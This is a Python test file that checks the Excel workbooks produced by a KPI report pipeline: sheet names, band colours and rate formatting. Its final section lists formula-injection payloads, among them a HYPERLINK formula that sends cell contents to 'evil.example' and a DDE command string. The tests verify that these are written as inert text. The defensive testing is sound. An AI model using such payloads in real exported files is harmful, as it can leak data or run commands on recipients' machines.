"""The workbooks open with openpyxl, with the sheets and band colours of the HTML."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from kpi_pipeline.reports import labels as L
from kpi_pipeline.reports.render_xlsx import peak_month_xlsx, weekly_xlsx
from kpi_pipeline_tests.reports import samples


def _fill(cell) -> str:
    return cell.fill.fgColor.rgb[-6:].upper()


def _open(data: bytes):
    return load_workbook(io.BytesIO(data))


def test_weekly_workbook_sheets_and_band_fills():
    report = samples.weekly_report()
    wb = _open(weekly_xlsx(report))
    assert wb.sheetnames == [
        "Tổng hợp",
        "Đơn vị",
        "Xu hướng",
        "Bản đồ nhiệt",
        "Chi tiết đơn vị đỏ",
        "Xếp hạng",
    ]

    ws = wb["Đơn vị"]
    header = [c.value for c in ws[1]]
    col = {name: i for i, name in enumerate(header)}
    rows = list(ws.iter_rows(min_row=2))
    assert [r[0].value for r in rows] == [u.unit_code for u in report.units]  # report order
    by_code = {u.unit_code: u for u in report.units}
    for r in rows:
        u = by_code[r[0].value]
        for name, band in (
            ("Xếp loại chung", u.overall_band),
            (L.KPI_LABELS["on_time"], u.on_time_band),
            (L.KPI_LABELS["online"], u.online_band),
            (L.KPI_LABELS["online_payment"], u.online_payment_band),
        ):
            assert _fill(r[col[name]]) == L.BAND_COLOURS[band], (u.unit_code, name)
        assert r[col["Xếp loại chung"]].value == L.BAND_LABELS[u.overall_band]
        rate = r[col[L.KPI_LABELS["on_time"]]]
        # stored rounded by the HTML's rule, so Excel's 0.0% shows what the HTML prints
        expected = None if u.on_time_rate is None else float(L.rounded_rate(u.on_time_rate))
        assert rate.value == expected and rate.number_format == "0.0%"


def test_weekly_heatmap_sheet_is_units_by_13_weeks():
    report = samples.weekly_report()
    ws = _open(weekly_xlsx(report))["Bản đồ nhiệt"]
    assert [c.value for c in ws[1]][2:] == [L.day(w) for w in report.heatmap_weeks]
    rows = list(ws.iter_rows(min_row=2))
    assert len(rows) == len(report.heatmap)
    for r, h in zip(rows, report.heatmap, strict=True):
        assert r[0].value == h.unit_code
        assert [_fill(c) for c in r[2:]] == [L.BAND_COLOURS[b] for b in h.bands]


def test_weekly_summary_and_red_details():
    report = samples.weekly_report()
    wb = _open(weekly_xlsx(report))
    summary = [[c.value for c in r] for r in wb["Tổng hợp"].iter_rows()]
    assert summary[0][0] == "Báo cáo tuần"
    on_time = next(r for r in summary if r[0] == L.KPI_LABELS["on_time"])
    assert on_time[1] == report.province.on_time_rate and on_time[3] == "Xanh"
    red = [[c.value for c in r] for r in wb["Chi tiết đơn vị đỏ"].iter_rows(min_row=2)]
    assert {r[0] for r in red} == {"000.00.46.H47", "000.46.21.H47"}
    assert [
        "000.00.46.H47",
        "Huyện Nam Trà My",
        "Hồ sơ quá hạn chưa giải quyết",
        "000.00.46.H47-240520-0012",
        "Đăng ký khai sinh",
        "20/05/2024",
        "23/05/2024",
        15,
    ] in red


def test_peak_month_workbook():
    report = samples.peak_report()
    wb = _open(peak_month_xlsx(report))
    assert wb.sheetnames == ["Tổng hợp", "Đơn vị"]
    ws = wb["Đơn vị"]
    header = [c.value for c in ws[1]]
    rows = {r[0].value: r for r in ws.iter_rows(min_row=2)}
    col = {name: i for i, name in enumerate(header)}
    green, red = L.BAND_COLOURS["green"], L.BAND_COLOURS["red"]
    assert rows["000.00.10.H47"][col["Kết quả chung"]].value == "Đạt"
    assert _fill(rows["000.00.10.H47"][col["Kết quả chung"]]) == green
    assert _fill(rows["000.00.46.H47"][col["Chỉ tiêu 1"]]) == red
    assert rows["000.00.46.H47"][col["Thay đổi (điểm %)"]].value == 20.0
    assert rows["000.00.46.H47"][col["Thay đổi"]].value == -3


# -- portal text is never a formula ---------------------------------------------------------
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
# XML turns a carriage return into a line feed when the file is read back
READ_BACK = {p.replace("\r", "\n"): p for p in PAYLOADS}


def _poisoned_report():
    """The sample week with every portal string (unit, parent and procedure names, codes of
    the drill-down) replaced by a formula-like payload."""
    from dataclasses import replace

    report = samples.weekly_report()
    pick = lambda i: PAYLOADS[i % len(PAYLOADS)]  # noqa: E731
    units = tuple(
        replace(u, unit_name=pick(i), parent_name=pick(i + 1)) for i, u in enumerate(report.units)
    )
    heat = tuple(replace(h, unit_name=pick(i)) for i, h in enumerate(report.heatmap))
    drill = tuple(
        replace(
            d,
            unit_name=pick(i),
            late_procedures=tuple(
                replace(p, procedure_name=pick(i + j), procedure_code=pick(i + j + 2))
                for j, p in enumerate(d.late_procedures)
            ),
            overdue_dossiers=tuple(
                replace(o, ma_ho_so=pick(i + j + 3), procedure_name=pick(i + j + 4))
                for j, o in enumerate(d.overdue_dossiers)
            ),
        )
        for i, d in enumerate(report.drilldowns)
    )
    return replace(report, units=units, heatmap=heat, drilldowns=drill)


def _formula_parts(data: bytes) -> list[str]:
    """Every <f> (formula) element in any sheet of the saved file."""
    import re
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [
            m
            for name in z.namelist()
            if name.startswith("xl/worksheets/")
            for m in re.findall(r"<f[ >].*?</f>", z.read(name).decode("utf-8"))
        ]


def test_formula_like_portal_text_is_written_as_text_in_every_sheet():
    data = weekly_xlsx(_poisoned_report())
    assert _formula_parts(data) == []
    wb = _open(data)
    seen = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if cell.value in READ_BACK:
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate)
                    seen.setdefault(ws.title, set()).add(READ_BACK[cell.value])
    # the payload text is kept exactly, in the units, heatmap and red-unit sheets
    assert seen["Đơn vị"] == set(PAYLOADS)
    assert seen["Bản đồ nhiệt"] == set(PAYLOADS)
    assert seen["Chi tiết đơn vị đỏ"] >= {PAYLOADS[0], PAYLOADS[2], PAYLOADS[3]}
    # our own text and numbers are untouched: no quote prefix where no formula could start
    units = wb["Đơn vị"]
    assert not units.cell(1, 2).quotePrefix and units.cell(2, 8).data_type == "n"


def test_peak_month_names_are_text_too():
    from dataclasses import replace

    report = samples.peak_report()
    rows = tuple(
        replace(r, current=replace(r.current, unit_name=PAYLOADS[i % len(PAYLOADS)]))
        for i, r in enumerate(report.units)
    )
    data = peak_month_xlsx(replace(report, units=rows))
    assert _formula_parts(data) == []
    ws = _open(data)["Đơn vị"]
    names = [ws.cell(r, 2) for r in range(2, ws.max_row + 1)]
    assert [READ_BACK[c.value] for c in names] == [
        PAYLOADS[i % len(PAYLOADS)] for i in range(len(rows))
    ]
    assert all(c.data_type == "s" and c.quotePrefix for c in names)
